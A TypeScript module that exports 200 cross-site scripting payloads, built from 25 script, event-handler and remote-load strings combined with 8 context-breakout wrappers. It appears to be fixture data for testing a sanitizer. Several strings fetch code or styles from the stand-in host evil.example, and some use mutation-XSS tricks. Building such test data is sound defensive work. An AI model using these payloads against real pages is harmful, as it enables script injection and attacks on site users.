const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onpageshow=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><input type=submit></form>',
  '<style>@import "//evil.example/x.css";</style>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
  '<use href="//evil.example/x.svg#y"/>',
  '<image href="//evil.example/x.png" width="9" height="9"/>',
  '<animate onbegin=alert(1) attributeName=x dur=1s>',
  '<set attributeName=href to=javascript:alert(1) />',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** What would end the place that a text stands in: content, attributes, comments, CDATA, title, style, CSS, an entity. */
const ways = [
  (script: string) => script,
  (script: string) => `">${script}`,
  (script: string) => `'>${script}<x y='`,
  (script: string) => `</title></text></desc></style></pre>${script}`,
  (script: string) => `--><!--${script}`,
  (script: string) => `]]>${script}<![CDATA[`,
  (script: string) => `" onmouseover="alert(1)" x="${script}`,
  (script: string) => `}</style>${script}<style>*{background:url(//evil.example/x)}`,
];

/** 200 texts, each an attempt to get a script, a handler or an address into a page. */
export const payloads: readonly string[] = ways.flatMap((way) => scripts.map(way));
